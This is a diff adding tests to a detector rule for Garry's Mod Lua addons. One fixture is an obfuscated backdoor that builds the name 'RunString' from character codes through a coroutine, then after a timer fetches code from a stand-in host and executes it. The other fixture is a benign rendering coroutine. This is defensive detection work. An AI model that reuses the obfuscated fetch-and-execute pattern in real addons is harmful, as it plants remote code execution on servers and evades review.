@@ -248,4 +248,34 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it('a sink name handed out piece by piece by a coroutine', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local parts = {82,117,110,83,116,114,105,110,103}',
+        'local gen = coroutine.wrap(function()',
+        '  for _, c in ipairs(parts) do coroutine.yield(string.char(c)) end',
+        'end)',
+        'local name = ""',
+        'for i = 1, #parts do name = name .. gen() end',
+        'timer.Simple(5, function() http.Fetch("https://cdn.invalid/p", function(b) _G[name](b) end) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a render target drawn a row per frame by a coroutine (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'local rt = GetRenderTarget("x", 256, 256)',
+        'local paint = coroutine.wrap(function()',
+        '  for y = 0, 255 do',
+        '    for x = 0, 255 do surface.SetDrawColor(x, y, 0) surface.DrawRect(x, y, 1, 1) end',
+        '    coroutine.yield()',
+        '  end',
+        '  return true',
+        'end)',
+        'hook.Add("HUDPaint", "x", function() render.PushRenderTarget(rt) if paint() then hook.Remove("HUDPaint", "x") end render.PopRenderTarget() end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
